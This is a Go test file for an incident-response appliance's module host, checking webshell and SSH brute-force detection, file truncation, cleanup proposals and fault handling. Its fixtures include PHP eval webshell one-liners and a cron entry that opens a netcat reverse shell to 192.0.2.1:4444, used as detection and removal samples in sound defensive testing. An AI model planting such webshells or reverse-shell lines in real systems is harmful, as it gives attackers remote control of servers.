package modhost_test

import (
	"context"
	"errors"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/firebreak-ir/firebreak/appliance/internal/modhost"
	"github.com/firebreak-ir/firebreak/sdk"
)

// TestTriageRunFilesAndLines delivers files (fb_file, with content after
// the record) and auth-log lines (batches) to real modules; what they emit
// comes back with the subject it is about.
func TestTriageRunFilesAndLines(t *testing.T) {
	h, _ := newHost(t, modhost.Options{BatchBytes: 1 << 20})
	ctx := context.Background()
	shell, err := h.Load(ctx, firstParty(t, "webshell"), nil)
	require.NoError(t, err)
	auth, err := h.Load(ctx, firstParty(t, "authlog"), nil)
	require.NoError(t, err)
	var got []modhost.Emitted
	run := h.TriageRun(ctx, []*modhost.Module{shell, auth}, func(e modhost.Emitted) error { got = append(got, e); return nil })
	require.True(t, run.Wants(sdk.KindFile))
	require.True(t, run.Wants(sdk.KindAuthLog))
	mt := time.Date(2026, 11, 23, 3, 0, 0, 0, time.UTC)
	require.NoError(t, run.File(&modhost.File{Path: "/var/www/html/a.php", Size: 31, Mode: 0o100644, MTime: mt}, []byte("<?php @eval($_POST['x']); ?>\n")))
	require.NoError(t, run.File(&modhost.File{Path: "/var/www/html/ok.php", Size: 20, Mode: 0o100644}, []byte("<?php echo 'hello';\n")))
	var b sdk.Builder
	for i := range 12 {
		b.Begin(sdk.Header{Kind: sdk.KindAuthLog})
		b.Str(sdk.FieldLine, "Nov 23 03:10:0"+string(rune('0'+i%10))+" h sshd[1]: Failed password for root from 192.0.2.7 port 1 ssh2")
		b.Str(sdk.FieldSource, "/var/log/auth.log")
		b.End()
	}
	require.NoError(t, run.Records("/var/log/auth.log", b.Bytes()))
	require.NoError(t, run.Finish())

	require.Len(t, got, 2, "one alert on the webshell, one on the guessing (at flush)")
	assert.Equal(t, "webshell", got[0].Module.Manifest.Name)
	assert.Equal(t, "/var/www/html/a.php", got[0].Subject)
	assert.Equal(t, mt.UnixNano(), got[0].Alerts[0].Time, "the alert carries the file's time")
	assert.Equal(t, "authlog", got[1].Module.Manifest.Name)
	assert.Equal(t, "", got[1].Subject, "flushed: no subject")
	assert.Equal(t, "/var/log/auth.log", modhost.AlertPath(got[1].Alerts[0], got[1].Subject), "named by its path= metadata")
	assert.Equal(t, 12, run.Stats["authlog"].Events)
	assert.Equal(t, 2, run.Stats["webshell"].Events)
}

// A file larger than the buffer is delivered cut; the record's size says
// how large it was.
func TestTriageRunCutsContent(t *testing.T) {
	h, _ := newHost(t, modhost.Options{BatchBytes: 64 << 10})
	ctx := context.Background()
	shell, err := h.Load(ctx, firstParty(t, "webshell"), nil)
	require.NoError(t, err)
	var got []modhost.Emitted
	run := h.TriageRun(ctx, []*modhost.Module{shell}, func(e modhost.Emitted) error { got = append(got, e); return nil })
	big := []byte("<?php @eval($_POST['x']); ?>\n" + strings.Repeat("// padding\n", 20000))
	require.NoError(t, run.File(&modhost.File{Path: "/w/big.php", Size: int64(len(big)) * 10}, big))
	require.NoError(t, run.Finish())
	require.Len(t, got, 1, "the webshell at the start of a cut file is still found")
	assert.Less(t, run.MaxContent(), len(big))
}

// A cleanup module gets the findings in the record and answers them; a
// detection module may not propose.
func TestTriageRunCleanupProposals(t *testing.T) {
	h, _ := newHost(t, modhost.Options{})
	ctx := context.Background()
	cl, err := h.Load(ctx, firstParty(t, "cleanup"), nil)
	require.NoError(t, err, "propose needs no grant: a proposal is inert until approved")
	var got []modhost.Emitted
	run := h.TriageRun(ctx, []*modhost.Module{cl}, func(e modhost.Emitted) error { got = append(got, e); return nil })
	sep := string(rune(sdk.FindingSep))
	finding := strings.Join([]string{"F3.1", "persistence", "1008001", "cron entry", "* * * * * root nc -e /bin/sh 192.0.2.1 4444"}, sep)
	require.NoError(t, run.File(&modhost.File{Path: "/etc/cron.d/x", Findings: []string{finding}}, []byte("* * * * * root nc -e /bin/sh 192.0.2.1 4444\n")))
	require.NoError(t, run.Finish())
	require.Len(t, got, 1)
	require.Len(t, got[0].Actions, 1)
	a := got[0].Actions[0]
	assert.Equal(t, sdk.Action{Type: "remove_line", Target: "/etc/cron.d/x", Detail: "* * * * * root nc -e /bin/sh 192.0.2.1 4444",
		Reason: "cron entry", Answers: []string{"F3.1"}}, a)
}

// A module that fails on every file is journaled, restarted, then
// disabled; the run goes on for the others.
func TestTriageRunFaults(t *testing.T) {
	h, jl := newHost(t, modhost.Options{MaxFaults: 2})
	ctx := context.Background()
	man := manifest("hostile", func(m *modhost.Manifest) { m.Subscriptions = []modhost.Subscription{{Event: "file"}} })
	bad, err := h.Load(ctx, signed(man, wasmOf(t, "testdata/guests/hostile")), []byte("fail"))
	require.NoError(t, err)
	shell, err := h.Load(ctx, firstParty(t, "webshell"), nil)
	require.NoError(t, err)
	n := 0
	run := h.TriageRun(ctx, []*modhost.Module{bad, shell}, func(e modhost.Emitted) error { n++; return nil })
	for range 3 {
		require.NoError(t, run.File(&modhost.File{Path: "/w/x.php"}, []byte("<?php eval($_GET['a']);")))
	}
	require.NoError(t, run.Finish())
	assert.Equal(t, 3, n, "the webshell module went on")
	assert.True(t, bad.Disabled())
	assert.Equal(t, 2, run.Stats["hostile"].Faults)
	assert.True(t, jl.has(t, "module.fault", "fb_file"))
	assert.True(t, jl.has(t, "module.disabled", "hostile"))
}

// A module subscribing to file events without exporting fb_file is
// refused at load.
func TestTriageNeedsFileExport(t *testing.T) {
	h, _ := newHost(t, modhost.Options{})
	man := manifest("nofile", func(m *modhost.Manifest) { m.Subscriptions = []modhost.Subscription{{Event: "file"}} })
	wat, err := os.ReadFile("testdata/conformance.wasm") // the WAT conformance module: no fb_file
	require.NoError(t, err)
	_, err = h.Load(context.Background(), signed(man, wat), nil)
	require.Error(t, err)
	assert.True(t, errors.Is(err, modhost.ErrABI), "%v", err)
	assert.Contains(t, err.Error(), "fb_file")
}
